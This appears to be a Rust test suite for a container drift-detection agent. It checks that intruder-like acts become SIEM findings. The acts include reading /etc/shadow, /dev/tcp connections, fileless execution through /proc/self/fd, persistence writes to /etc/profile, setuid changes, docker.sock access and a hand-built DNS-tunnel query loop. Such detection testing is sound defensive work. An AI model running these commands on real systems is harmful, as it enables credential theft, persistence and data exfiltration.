//! Learn, drift, alert at the SIEM: for each kind of behaviour.

use super::line::{LIMIT, Line, text};
use norma_rig::net::{Peer, free_port, is_listening};
use norma_rig::{AgentSettings, skip, wait_until};
use serde_json::Value;
use std::fs;
use std::net::{IpAddr, TcpStream, UdpSocket};
use std::os::unix::fs::PermissionsExt as _;
use std::os::unix::net::UnixListener;
use std::time::Duration;

fn short() -> AgentSettings {
    AgentSettings {
        learning: Duration::from_secs(3),
        ..AgentSettings::default()
    }
}

#[test]
fn each_kind_of_drift_raises_an_alert_at_the_siem() {
    if !skip::unless_root("each_kind_of_drift_raises_an_alert_at_the_siem") {
        return;
    }
    let line = Line::start("drift", &short());
    let stranger = Peer::start().unwrap();
    line.learn();
    let mut early = line.siem.messages();
    // The agent sees the containers of other tests as well.
    early.retain(|message| message.contains(line.container.id()));
    assert_eq!(early, Vec::<String>::new(), "what is learned is no alert");

    assert_eq!(line.order("id"), 0);
    let alert = line.alert(&["novel", "/usr/bin/id"]);
    assert!(alert.severity <= 4, "an alert is at least a warning: {alert:?}");
    assert!(alert.text.contains("expected"), "{alert:?}");

    assert_eq!(line.order("cat /etc/shadow"), 0);
    line.alert(&["novel", "/usr/bin/cat", "/etc/shadow"]);

    assert_eq!(
        line.order(&format!("(exec 4<>/dev/tcp/127.0.0.1/{})", stranger.port())),
        0
    );
    line.alert(&["novel", "/usr/bin/bash", &stranger.port().to_string()]);

    assert_eq!(line.order("norma-load listen 0.01"), 0);
    line.alert(&["novel", "listen", "/usr/bin/norma-load"]);
    line.collector.audit().verify().unwrap();
}

#[test]
fn a_baseline_survives_the_agent() {
    if !skip::unless_root("a_baseline_survives_the_agent") {
        return;
    }
    let mut line = Line::start("again", &short());
    line.learn();
    line.agent.stop().unwrap();
    line.agent.run(&line.scratch).unwrap();
    // Complete at once: what is drift now must not be learned as normal by the second agent.
    assert_eq!(line.order("id"), 0);
    line.alert(&["novel", "/usr/bin/id"]);
}

/// The code of an event's first reason.
fn code(event: &Value) -> &str {
    text(event, "/verdict/reasons/0/code")
}

/// Waits for a finding of this kind; checks that it says all that a finding has to say.
fn finding(line: &Line, wanted: &str) -> Value {
    let event = line.event(wanted, |event| code(event) == wanted);
    for pointer in ["expected", "why", "next"] {
        let words = text(&event, &format!("/verdict/reasons/0/{pointer}"));
        assert!(!words.is_empty(), "{wanted} has no {pointer}: {event:#}");
    }
    let controls = event["verdict"]["reasons"][0]["controls"].to_string();
    assert!(
        controls.contains("NIST 800-53") && controls.contains("MITRE ATT&CK"),
        "{controls}"
    );
    let terms: Vec<&str> = (0..4)
        .map(|number| text(&event, &format!("/verdict/terms/{number}/name")))
        .collect();
    assert_eq!(terms, ["novelty", "fleet", "replicas", "image"], "{event:#}");
    assert_eq!(text(&event, "/incident/id").len(), 32, "{event:#}");
    event
}

#[test]
fn each_act_of_an_intruder_is_a_finding_of_its_kind() {
    if !skip::unless_root("each_act_of_an_intruder_is_a_finding_of_its_kind") {
        return;
    }
    let line = Line::start("kinds", &short());
    let (stranger, port) = (Peer::start().unwrap(), free_port().unwrap());
    line.learn();
    // What root may write that nobody may: by a part of root's power.
    let locked = line.container.host_path("/etc/app.conf");
    fs::set_permissions(&locked, fs::Permissions::from_mode(0o400)).unwrap();
    for (act, kind) in [
        ("norma-load listen 0.01", "drift.new-listener"),
        ("id > /dev/null", "drift.unknown-executable"),
        ("bash -c true", "drift.shell-or-interpreter"),
        ("cat /etc/shadow > /dev/null", "drift.credentials-read"),
        ("read -r x < /etc/passwd", "drift.new-reader"),
        ("echo x > /etc/app.conf", "drift.configuration-changed"),
        ("echo y > /etc/app.conf", "drift.new-capability"),
        ("echo x > /usr/bin/planted", "drift.binary-changed"),
        ("echo x > /usr/lib/planted.so", "drift.library-changed"),
        ("echo x > /etc/profile", "drift.persistence"),
        ("echo x > /tmp/new", "drift.new-write"),
        ("norma-load listen 0.01", "drift.new-listener"),
        (
            &format!("(exec 4<>/dev/tcp/127.0.0.1/{})", stranger.port()),
            "drift.new-port",
        ),
        (&format!("(exec 4<>/dev/tcp/127.0.0.2/{port})"), "drift.new-peer"),
    ] {
        line.order(act);
        let event = finding(&line, kind);
        assert_eq!(text(&event, "/verdict/kind"), "novel", "{act}");
    }
    // The shell did all of this: it is one lineage.
    let events = line.collector.audit().events().unwrap();
    let incidents: std::collections::BTreeSet<&str> = events
        .iter()
        .map(|event| text(event, "/incident/id"))
        .filter(|id| !id.is_empty())
        .collect();
    assert_eq!(incidents.len(), 1, "{incidents:?}");
    let alert = line.alert(&["drift.credentials-read", "incident=", "look at next: "]);
    assert!(alert.text.contains("how unusual: score"), "{alert:?}");
}

#[test]
fn what_runs_without_a_file_is_a_finding_while_it_is_learned() {
    if !skip::unless_root("what_runs_without_a_file_is_a_finding_while_it_is_learned") {
        return;
    }
    let learning = AgentSettings {
        learning: Duration::from_secs(3600),
        ..AgentSettings::default()
    };
    let line = Line::start("rules", &learning);
    // Executed when its name is gone: the descriptor is all that leads to it.
    let root = line.container.host_path("/usr/bin");
    std::fs::copy(root.join("true"), root.join("gone")).unwrap();
    assert_eq!(line.order("exec 6< /usr/bin/gone"), 0);
    std::fs::remove_file(root.join("gone")).unwrap();
    assert_eq!(line.order("/proc/self/fd/6"), 0);
    let event = finding(&line, "drift.fileless-execution");
    assert_eq!(text(&event, "/verdict/kind"), "violation", "{event:#}");
    line.container.exec(&["cat", "/etc/shadow"]).unwrap();
    let event = finding(&line, "drift.credentials-read-in-session");
    assert_eq!(text(&event, "/verdict/severity"), "high", "{event:#}");
}

#[test]
fn the_acts_of_a_session_are_one_incident_and_those_of_others_are_not() {
    if !skip::unless_root("the_acts_of_a_session_are_one_incident_and_those_of_others_are_not") {
        return;
    }
    let line = Line::start("incidents", &short());
    line.learn();
    let session = [
        "bash",
        "-c",
        "id > /tmp/session; stat /etc/shadow > /dev/null; cat /etc/group",
    ];
    line.container.exec(&session).unwrap();
    assert_eq!(line.order("ls / > /tmp/own"), 0);
    let of = |what: &str, exe: &str| {
        line.event(what, |event| {
            event["kind"] == "exec" && text(event, "/process/exe") == exe && !code(event).is_empty()
        })
    };
    let (first, id, stat) = (
        line.event("the session", |event| code(event) == "drift.session-program"),
        of("id", "/usr/bin/id"),
        of("stat", "/usr/bin/stat"),
    );
    let incident = |event: &Value| text(event, "/incident/id").to_owned();
    assert_eq!(incident(&id), incident(&first), "{id:#}");
    assert_eq!(incident(&stat), incident(&first));
    assert!(stat["incident"]["findings"].as_u64() > first["incident"]["findings"].as_u64());
    assert_ne!(
        incident(&of("ls", "/usr/bin/ls")),
        incident(&first),
        "the workload's own"
    );
}

#[test]
fn a_flood_of_made_up_names_does_not_hide_what_follows() {
    if !skip::unless_root("a_flood_of_made_up_names_does_not_hide_what_follows") {
        return;
    }
    let line = Line::start("flooded", &short());
    line.learn();
    let flood = "for ((i = 0; i < 400; i++)); do echo x > /tmp/flood-$i; done";
    assert_eq!(line.order(flood), 0);
    finding(&line, "drift.burst");
    let last = line.event("the last of the flood", |event| {
        text(event, "/open/path") == "/tmp/flood-399"
    });
    assert_eq!(
        text(&last, "/verdict/severity"),
        "info",
        "in the log without an alert: {last:#}"
    );
    assert_eq!(line.order("echo x > /srv-data"), 0);
    let hidden = line.event("what the flood was to hide", |event| {
        text(event, "/open/path") == "/srv-data"
    });
    assert_ne!(text(&hidden, "/verdict/severity"), "info", "{hidden:#}");
    line.alert(&["drift.new-write", "/srv-data"]);
}

#[test]
fn each_way_on_from_a_container_is_a_finding_of_its_kind() {
    if !skip::unless_root("each_way_on_from_a_container_is_a_finding_of_its_kind") {
        return;
    }
    let mut line = Line::prepare_with("ways", &short(), |scratch, spec| {
        spec.programs.push("/usr/bin/chmod".into());
        spec.programs.push("/usr/sbin/chroot".into());
        spec.volumes
            .push((scratch.folder("volume").unwrap(), "/srv".to_owned()));
    });
    line.agent.run(&line.scratch).unwrap();
    line.learn();
    // What others put there, and the image did not ship.
    let volume = line.scratch.join("volume");
    let program = line.container.host_path("/usr/bin/true");
    std::fs::copy(&program, volume.join("tool")).unwrap();
    std::fs::copy(&program, line.container.host_path("/usr/bin/apk")).unwrap();
    let _runtime = UnixListener::bind(volume.join("docker.sock")).unwrap();
    for (act, kind) in [
        ("apk", "drift.package-manager"),
        ("/srv/tool", "drift.executable-on-volume"),
        (
            "cat /usr/bin/true > /tmp/tool; chmod 755 /tmp/tool; /tmp/tool",
            "drift.executable-in-memory-filesystem",
        ),
        (
            "norma-load reach /srv/docker.sock",
            "drift.container-runtime-socket",
        ),
        ("chmod 4755 /usr/bin/apk", "drift.setuid-file"),
        ("chroot / true", "drift.mount"),
    ] {
        assert_eq!(line.order(act), 0, "{act}");
        finding(&line, kind);
    }
}

#[test]
fn data_that_leaves_by_dns_is_a_finding_while_the_workload_is_learned() {
    if !skip::unless_root("data_that_leaves_by_dns_is_a_finding_while_the_workload_is_learned") {
        return;
    }
    let learning = AgentSettings {
        learning: Duration::from_secs(3600),
        ..AgentSettings::default()
    };
    let line = Line::start("tunnel", &learning);
    // A query for a label of 32 letters below example.com, which bash can put together by itself.
    let ask = "for ((i = 0; i < 70; i++)); do n=; for ((j = 0; j < 16; j++)); do \
               printf -v n '%s%02x' \"$n\" $((RANDOM % 256)); done; \
               printf \"\\\\x00\\\\x01\\\\x01\\\\x00\\\\x00\\\\x01\\\\x00\\\\x00\\\\x00\\\\x00\\\\x00\\\\x00 $n\\\\x07example\\\\x03com\\\\x00\\\\x00\\\\x01\\\\x00\\\\x01\" \
               > /dev/udp/127.0.0.53/53; done 2> /dev/null";
    line.order(ask);
    let event = finding(&line, "drift.dns-tunnel");
    assert!(text(&event, "/dns/name").ends_with(".example.com"), "{event:#}");
    assert_eq!(text(&event, "/verdict/kind"), "violation", "{event:#}");
}

/// An address of this machine that others reach it by.
fn own_address() -> Option<IpAddr> {
    let socket = UdpSocket::bind("0.0.0.0:0").ok()?;
    // Nothing is sent: the kernel only looks where it would send from.
    socket.connect("192.0.2.1:9").ok()?;
    let address = socket.local_addr().ok()?.ip();
    (!address.is_loopback() && !address.is_unspecified()).then_some(address)
}

#[test]
fn a_kind_of_peer_that_none_came_from_before_is_a_finding() {
    if !skip::unless_root("a_kind_of_peer_that_none_came_from_before_is_a_finding") {
        return;
    }
    let Some(address) = own_address() else {
        println!(
            "skipped: a_kind_of_peer_that_none_came_from_before_is_a_finding: this machine has no address but loopback"
        );
        return;
    };
    let port = free_port().unwrap();
    let settings = AgentSettings {
        learning: Duration::from_secs(12),
        ..AgentSettings::default()
    };
    let line = Line::start("inbound", &settings);
    assert_eq!(line.order(&format!("norma-load welcome {port} & true")), 0);
    wait_until("the workload to listen", LIMIT, || {
        Ok(is_listening(port)?.then_some(()))
    })
    .unwrap();
    let accepted = |from: IpAddr| {
        drop(TcpStream::connect((from, port)).unwrap());
        line.event("the accepted connection", |event| {
            text(event, "/socket/name") == "accepted"
                && text(event, "/socket/remote_address") == from.to_string()
        })
    };
    let learned = accepted([127, 0, 0, 1].into());
    assert_eq!(text(&learned, "/verdict/kind"), "learning", "{learned:#}");
    line.learn();
    accepted(address);
    finding(&line, "drift.new-inbound-class");
}
